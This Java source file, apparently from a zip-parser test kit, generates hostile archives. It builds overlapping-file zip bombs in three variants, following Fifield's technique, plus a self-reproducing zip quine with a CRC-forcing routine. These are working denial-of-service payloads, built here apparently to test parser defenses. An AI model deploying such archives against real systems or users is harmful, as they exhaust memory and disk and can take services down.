package mx.prep.testkit.zip;

import static mx.prep.testkit.zip.ZipRecord.littleEndian;

import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.zip.CRC32;

/**
 * Zips whose files share bytes, so that a few kilobytes unpack to as much as one likes (David Fifield, "A better zip
 * bomb", WOOT 2019), and a zip that holds itself (Russ Cox, "Zip Files All The Way Down").
 */
public final class ZipBombs {
    private static final int LOCAL_HEADER = 30;
    private static final int STORED_HEADER = 5;

    private ZipBombs() {}

    /** Files that are all one local record. */
    public static byte[] fullOverlap(int files, int kernel) {
        ZipForge zip = ZipForge.zip().add(ForgedEntry.deflated("0", new byte[kernel]));
        for (int i = 1; i < files; i++) {
            zip.add(ForgedEntry.deflated(Integer.toString(i), new byte[kernel])
                    .onlyInDirectory()
                    .central(ZipField.OFFSET, 0));
        }
        return zip.build();
    }

    /** Files each of whose deflate stream quotes the next local header as a stored block and goes on into its data. */
    public static byte[] quotedOverlap(int files, int kernel) {
        byte[] content = new byte[kernel];
        List<ForgedEntry> entries = new ArrayList<>();
        entries.add(ForgedEntry.deflated(name(files - 1), content));
        int packed = entries.get(0).data().length;
        for (int i = files - 2; i >= 0; i--) {
            byte[] header = localHeader(entries.get(entries.size() - 1));
            content = concat(header, content);
            packed += STORED_HEADER + header.length;
            entries.add(ForgedEntry.deflated(name(i), content)
                    .data(stored(header.length))
                    .both(ZipField.PACKED_SIZE, packed));
        }
        Collections.reverse(entries);
        return zip(entries);
    }

    /** Files each of whose local header has the local headers of all that follow in its extra field, and one data. */
    public static byte[] extraFieldOverlap(int files, int kernel) {
        List<ForgedEntry> entries = new ArrayList<>();
        entries.add(ForgedEntry.deflated(name(files - 1), new byte[kernel]));
        byte[] headers = localHeader(entries.get(0));
        int packed = entries.get(0).data().length;
        for (int i = files - 2; i >= 0; i--) {
            ForgedEntry quoting = ForgedEntry.deflated(name(i), new byte[kernel])
                    .data(new byte[0])
                    .both(ZipField.PACKED_SIZE, packed)
                    .localExtra(concat(littleEndian(0x9999, 2), littleEndian(headers.length, 2)))
                    .local(ZipField.EXTRA_LENGTH, 4 + headers.length);
            headers = concat(localHeader(quoting), headers);
            entries.add(quoting);
        }
        Collections.reverse(entries);
        return zip(entries);
    }

    private static byte[] zip(List<ForgedEntry> entries) {
        ZipForge zip = ZipForge.zip();
        entries.forEach(zip::add);
        return zip.build();
    }

    /** Names of one length, so that headers have one length too. */
    private static String name(int i) {
        return String.format("%05d", i);
    }

    private static byte[] localHeader(ForgedEntry entry) {
        byte[] record = entry.localBytes();
        return Arrays.copyOf(record, record.length - entry.data().length);
    }

    /**
     * {@code r.zip}, whose only file is {@code r.zip}, byte for byte. Each instruction of its deflate stream prints
     * instructions; between them they print them all, the headers before and the directory behind.
     */
    public static byte[] quine() {
        long crc = 0x5045_5250L;
        byte[] whole = quine(crc, new byte[15], 0);
        byte[] again = quine(crc, new byte[15], whole.length);
        int free = Collections.indexOfSubList(boxed(again), boxed(marked(new byte[15])));
        return quine(crc, patch(again, free, crc), again.length);
    }

    private static byte[] marked(byte[] filler) {
        return concat(filler, repeat(15));
    }

    private static byte[] quine(long crc, byte[] filler, int size) {
        int packed = size == 0 ? 0 : size - (LOCAL_HEADER + 5) - (46 + 5 + 22);
        ForgedEntry entry = ForgedEntry.deflated("r.zip", new byte[0])
                .data(new byte[0])
                .both(ZipField.CRC, crc)
                .both(ZipField.PACKED_SIZE, packed)
                .both(ZipField.SIZE, size);
        byte[] start = entry.localBytes();
        int directory = size == 0 ? 0 : start.length + packed;
        byte[] end = ZipForge.zip()
                .add(entry)
                .end(ZipField.DIRECTORY_OFFSET, directory)
                .build();
        end = Arrays.copyOfRange(end, start.length, end.length);
        byte[] stream = deflateQuine(start, end, filler);
        return concat(start, stream, end);
    }

    private static byte[] deflateQuine(byte[] start, byte[] end, byte[] filler) {
        int op = repeat(30).length;
        byte[] literal = stored(start.length + STORED_HEADER);
        byte[] repeat = repeat(start.length + STORED_HEADER);
        byte[] nothing = stored(0);
        byte[] thirty = stored(2 * op + 2 * STORED_HEADER);
        byte[] last = {1, 0, 0, (byte) 0xff, (byte) 0xff};
        int tail = op + 2 * STORED_HEADER + end.length;
        byte[] closing = concat(stored(STORED_HEADER + end.length), last, end);
        return concat(
                concat(literal, start, literal, repeat),
                concat(stored(op), repeat),
                concat(stored(STORED_HEADER), stored(op), nothing),
                concat(thirty, repeat, stored(STORED_HEADER), stored(op), nothing, thirty),
                repeat(30),
                concat(thirty, repeat(30), thirty, repeat(30), thirty),
                repeat(30),
                concat(thirty, filler, repeat(15), stored(tail)),
                repeat(15),
                concat(stored(tail), repeat(tail), closing),
                repeat(tail),
                closing,
                last);
    }

    /** An uncompressed block's header (RFC 1951, 3.2.4). */
    private static byte[] stored(int length) {
        return new byte[] {0, (byte) length, (byte) (length >> 8), (byte) ~length, (byte) (~length >> 8)};
    }

    /** Ten bytes that print the last ones again: a block of fixed codes, then an empty stored block up to a whole byte. */
    private static byte[] repeat(int length) {
        for (int part = 0; part <= length / 2; part += part == 0 ? 3 : 1) {
            BitWriter bits = new BitWriter();
            bits.block();
            bits.match(length - part, length);
            if (part > 0) {
                bits.match(part, length);
            }
            bits.end();
            while (bits.size() < 38) {
                bits.block();
                bits.end();
            }
            if (bits.size() <= 45) {
                return bits.withStoredBlock();
            }
        }
        throw new IllegalArgumentException("no instruction of ten bytes repeats " + length);
    }

    /** The filler that gives the whole a CRC; the sums of changed bits add up to the change of the sum. */
    private static byte[] patch(byte[] whole, int free, long crc) {
        long wanted = crc(whole) ^ crc;
        long[] rows = new long[32];
        long[] uses = new long[32];
        for (int bit = 0; bit < 32; bit++) {
            byte[] changed = whole.clone();
            changed[free + bit / 8] ^= (byte) (1 << (bit % 8));
            long row = crc(changed) ^ crc(whole);
            long use = 1L << bit;
            for (int high = 31; high >= 0 && row != 0; high--) {
                if ((row >> high & 1) != 0) {
                    if (rows[high] == 0) {
                        rows[high] = row;
                        uses[high] = use;
                        break;
                    }
                    row ^= rows[high];
                    use ^= uses[high];
                }
            }
        }
        long bits = 0;
        for (int high = 31; high >= 0; high--) {
            if ((wanted >> high & 1) != 0) {
                wanted ^= rows[high];
                bits ^= uses[high];
            }
        }
        return concat(littleEndian(bits, 4), new byte[11]);
    }

    private static long crc(byte[] bytes) {
        CRC32 crc = new CRC32();
        crc.update(bytes);
        return crc.getValue();
    }

    private static List<Byte> boxed(byte[] bytes) {
        List<Byte> list = new ArrayList<>();
        for (byte b : bytes) {
            list.add(b);
        }
        return list;
    }

    private static byte[] concat(byte[]... parts) {
        ZipRecord record = new ZipRecord();
        for (byte[] part : parts) {
            record.add(part);
        }
        return record.bytes(Map.of());
    }

    /** Bits of deflate's fixed codes (RFC 1951, 3.2.6), for lengths of 3 to 114 and distances of 5 to 128. */
    private static final class BitWriter {
        private long bits;
        private int size;

        int size() {
            return size;
        }

        private void plain(long value, int width) {
            bits |= value << size;
            size += width;
        }

        /** Huffman codes stand with their highest bit first. */
        private void code(int value, int width) {
            plain(Integer.reverse(value) >>> (32 - width), width);
        }

        void block() {
            plain(0b010, 3);
        }

        void end() {
            code(0, 7);
        }

        void match(int length, int distance) {
            int extra = length < 11 ? 0 : 29 - Integer.numberOfLeadingZeros(length - 3);
            int index = length < 11 ? length - 3 : 4 * extra + 4 + ((length - 3 - (4 << extra)) >> extra);
            code(257 + index - 256, 7);
            plain((length - 3) & ((1 << extra) - 1), extra);
            int wide = 30 - Integer.numberOfLeadingZeros(distance - 1);
            code(2 * wide + 2 + ((distance - 1) >> wide & 1), 5);
            plain((distance - 1) & ((1 << wide) - 1), wide);
        }

        /** Six bytes of bits, the last three of which begin an empty stored block, and its lengths. */
        byte[] withStoredBlock() {
            return concat(littleEndian(bits, 6), new byte[] {0, 0, (byte) 0xff, (byte) 0xff});
        }
    }
}
